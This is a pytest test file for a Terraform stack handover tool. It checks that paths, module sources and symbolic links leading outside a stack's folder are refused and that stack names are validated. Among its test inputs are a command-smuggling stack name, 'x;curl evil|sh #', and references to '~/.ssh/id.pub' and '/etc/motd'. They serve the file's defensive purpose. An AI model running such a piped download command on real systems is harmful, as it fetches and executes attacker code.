"""Paths and names from other people's projects lead to no other place."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from errors import RefusedError
from ops.handover import convert, shipped
from ops.handover.paths import is_below, leads_out, refuse_links, wrong_name
from ops.handover.stacks import read


@pytest.mark.parametrize("path", ["a", "web/sns.tf", "web/..x/y", "web/a b", "~/a"])
def test_a_path_without_a_step_up_is_below_its_folder(path: str) -> None:
    assert is_below(path)


@pytest.mark.parametrize(
    "path", ["", "../a", "web/../../a", "/a", "..", "web\\..\\..\\a", "C:\\a", "C:a", "\\a", "web/"]
)
def test_a_path_that_leads_out_on_any_system_is_not_below_its_folder(path: str) -> None:
    assert not is_below(path)


@pytest.mark.parametrize(
    ("path", "folder"),
    [("./../x", ""), ("..", ""), ("a/../../x", ""), ("/x", ""), ("~/x", ""), ("../../x", "modules"), ("C:\\x", "")],
)
def test_a_local_path_leads_out(path: str, folder: str) -> None:
    assert leads_out(path, folder=folder)


@pytest.mark.parametrize(("path", "folder"), [("./x", ""), ("../x", "modules/a"), ("a/../x", ""), ("..x", "")])
def test_a_local_path_stays_in_the_stacks_folder(path: str, folder: str) -> None:
    assert not leads_out(path, folder=folder)


@pytest.mark.parametrize("source", ["./../x", "../x", "/srv/x", "./a/../../x", "file:///srv/x", ".\\..\\x"])
def test_refuses_a_module_outside_the_stack(source: str) -> None:
    with pytest.raises(RefusedError, match=r"is outside the stack's folder") as refused:
        convert({"module": {"it": {"source": source}}}, name="web", schemas=shipped())
    assert [it.where for it in refused.value.problems] == ["web: module.it.source"]


def test_refuses_a_module_outside_the_stack_that_a_module_in_it_reads(out: Callable[..., Path]) -> None:
    folder = out({"module": {"it": {"source": "./modules/a"}}}) / "stacks" / "web" / "modules"
    for name, content in {
        "a/main.tf": 'module "b" {\n  source = "../b"\n}\nmodule "c" {\n  source = "../../../c"\n}\n',
        "b/main.tf.json": '{"module": {"d": {"source": "/srv/d"}, "a": {"source": "./../a"}}}',
    }.items():
        (folder / name).parent.mkdir(parents=True)
        (folder / name).write_text(content)
    with pytest.raises(RefusedError) as refused:
        read(folder.parents[2])
    assert [(it.where, it.what) for it in refused.value.problems] == [
        (str(folder / "a/main.tf"), "'../../../c' is outside the stack's folder and would not be handed over"),
        (str(folder / "b/main.tf.json"), "'/srv/d' is outside the stack's folder and would not be handed over"),
    ]


@pytest.mark.parametrize(
    ("value", "path"),
    [
        ('${file("../a.conf")}', "../a.conf"),
        ('${file("${path.module}/./../../missing")}', "./../../missing"),
        ('x ${templatefile("/etc/motd", {})}', "/etc/motd"),
        ('${file("~/.ssh/id.pub")}', "~/.ssh/id.pub"),
        ("../../../a.zip", "../../../a.zip"),
        ("{project}/a.zip", "{project}/a.zip"),
        ('${join("/", [path.module, "../../../a.zip"])}', "../../../a.zip"),
    ],
)
def test_refuses_a_file_outside_the_stack(value: str, path: str, out: Callable[..., Path], tmp_path: Path) -> None:
    (tmp_path / "a.zip").write_text("")
    value, path = (it.replace("{project}", str(tmp_path)) for it in (value, path))
    folder = out({"resource": {"aws_s3_object": {"it": {"source": value}}}})
    with pytest.raises(RefusedError) as refused:
        read(folder)
    (problem,) = refused.value.problems
    assert problem.where == "web: resource.aws_s3_object.it.source"
    assert problem.what == f"{path!r} is outside the stack's folder and would not be handed over"


@pytest.mark.parametrize(
    "value", ["/etc/hosts", "../../missing.zip", "see ../a", "..", "/", "~/x", "\0/../x", "../" + "x" * 5000]
)
def test_takes_text_that_names_no_file_of_the_project(value: Any, out: Callable[..., Path]) -> None:
    assert len(read(out({"locals": {"text": value}}))) == 1


@pytest.mark.parametrize(
    "name", ["a\nb", ".git", ".handed-over", "a\u202eb", "\ud800", "a\\b", "x" * 256, " ", "a\u200b"]
)
def test_refuses_a_stack_whose_name_cannot_be_a_folders(name: str) -> None:
    assert wrong_name(name) is not None


@pytest.mark.parametrize("name", ["web", "dev-network", "x;curl evil|sh #", "<img src=x>", "`a`", "架け橋", "a b"])
def test_takes_a_stack_whose_name_can_be_a_folders(name: str) -> None:
    assert wrong_name(name) is None


def test_names_the_stack_whose_name_cannot_be_a_folders(out: Callable[..., Path]) -> None:
    folder = out(**{".git": {}})
    with pytest.raises(RefusedError) as refused:
        read(folder)
    assert str(refused.value) == (
        f"error: {folder}: '.git' begins with a dot, as hidden folders do\nhint: rename the stack, and synthesise again"
    )


def test_refuses_two_stacks_whose_folders_differ_only_in_case(out: Callable[..., Path]) -> None:
    with pytest.raises(RefusedError, match="'WEB' and 'web' are one folder where case does not count"):
        read(out(web={}, mail={}, WEB={}))


@pytest.mark.parametrize("place", ["web", "web/sns.tf", ".handed-over", ".handed-over.sha256", "notes/of/mine"])
def test_refuses_a_link_that_leads_out(place: str, tmp_path: Path) -> None:
    link = tmp_path / "hcl" / place
    link.parent.mkdir(parents=True)
    link.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(RefusedError, match=r"is a symbolic link") as refused:
        refuse_links(tmp_path / "hcl", ["web/sns.tf", ".handed-over/x", ".handed-over.sha256"])
    assert [it.where for it in refused.value.problems] == [str(link)]


def test_refuses_a_link_where_it_writes_even_if_it_stays_in_the_folder(tmp_path: Path) -> None:
    (tmp_path / "hcl" / "mail").mkdir(parents=True)
    (tmp_path / "hcl" / "web").symlink_to("mail")
    refuse_links(tmp_path / "hcl", ["mail/sns.tf"])
    with pytest.raises(RefusedError, match=r"hcl/web: is a symbolic link"):
        refuse_links(tmp_path / "hcl", ["web/sns.tf"])


def test_leaves_terraforms_links_to_providers(tmp_path: Path) -> None:
    providers = tmp_path / "hcl" / "web" / ".terraform" / "providers"
    providers.mkdir(parents=True)
    (providers / "linux_amd64").symlink_to(tmp_path)
    refuse_links(tmp_path / "hcl", ["web/sns.tf"])
